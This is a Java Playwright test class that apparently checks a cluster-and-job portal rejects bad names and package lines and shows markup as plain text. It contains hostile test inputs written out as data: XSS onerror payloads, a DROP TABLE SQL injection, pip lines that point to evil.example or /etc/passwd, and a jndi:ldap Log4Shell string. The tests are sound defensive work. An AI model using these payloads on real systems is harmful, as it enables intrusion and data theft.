package dev.rayport.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;

/** What must not be accepted is refused beside its field; nothing is stored, nothing starts. */
class BadInputTests extends Journey {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "a-name-that-is-longer-than-any-name-may-be-in-kubernetes",
        "Ab_c",
        "-x",
        "train-\u0445",
        "train-\u202ecba",
        "train-\ud83d\ude80",
        "<img src=x onerror=alert(1)>",
        "'; DROP TABLE clusters; --",
      })
  void aClusterNameThatBreaksTheRule(String name) {
    JsonNode before = portal.rest().get("/clusters").get("items");
    signIn();
    page.navigate("/clusters/new?template=cpu-small");
    page.getByLabel("Name", new Page.GetByLabelOptions().setExact(true)).fill(name);
    action("Create cluster").click();
    assertThat(page.locator("vaadin-text-field[invalid]").first()).isVisible();
    assertThat(portal.rest().get("/clusters").get("items")).hasSameSizeAs(before);
    assertThat(page.url()).contains("/clusters/new");
  }

  @ParameterizedTest
  @ValueSource(strings = {"--index-url http://evil.example", "-r /etc/passwd", "git+file:///etc"})
  void aPackageLineThatIsNoPackage(String line) {
    JsonNode before = portal.rest().get("/jobs").get("items");
    signIn();
    page.navigate("/jobs/new");
    page.locator("vaadin-text-area textarea").first().fill("echo x");
    action("pip").click();
    page.locator("rp-lines textarea").fill(line);
    action("Submit job").click();
    assertThat(page.locator("rp-lines textarea")).hasAttribute("aria-invalid", "true");
    assertThat(portal.rest().get("/jobs").get("items")).hasSameSizeAs(before);
  }

  @Test
  void markupInFreeTextIsShownAsText() {
    String evil = "echo '<img src=x onerror=document.title=1>' ${jndi:ldap://x} {{7*7}}";
    portal.rest().readyCluster("calm");
    String id = new Jobs(portal.rest()).submit("calm", evil).get("id").asString();
    signIn();
    page.navigate("/jobs/" + id);
    assertThat(page.locator("main")).containsText("onerror=document.title=1");
    assertThat(page.locator("main img[src=x]")).hasCount(0);
    page.navigate("/jobs");
    assertThat(page.locator("main img[src=x]")).hasCount(0);
    assertThat(page.title()).isNotEqualTo("1");
  }
}
